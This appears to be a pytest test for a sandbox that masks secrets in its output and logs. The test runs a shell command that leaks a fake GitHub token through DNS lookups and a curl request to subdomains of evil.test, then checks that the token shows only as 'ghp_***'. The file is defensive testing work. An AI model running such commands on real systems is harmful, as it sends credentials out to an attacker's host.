"""`getent hosts ghp_….evil.test`: neither the log nor the line at the end nor a learning run shows the secret."""

import pytest

TOKEN = "ghp_" + "a1B2c3D4e5F6" * 3
MASKS = "mask_stdout:\n  presets: [all]\n"


@pytest.mark.parametrize("learn", [False, True])
def test_a_host_name_is_masked_wherever_it_is_told(sandbox, lab, learn):
    outcome = sandbox.run(
        ["allowed.test"],
        [
            "sh",
            "-c",
            f"getent hosts {TOKEN}.evil.test; curl -s http://{TOKEN}.evil.test/; getent hosts b.evil.test; true",
        ],
        learn=learn,
        config=MASKS,
    )
    assert outcome.status == 0
    assert "b.evil.test" in outcome.err
    log = lab.log_of(sandbox.user).read_text()
    assert TOKEN.lower() not in (outcome.err + log).lower()
    assert "ghp_***" in (outcome.err if learn else log)
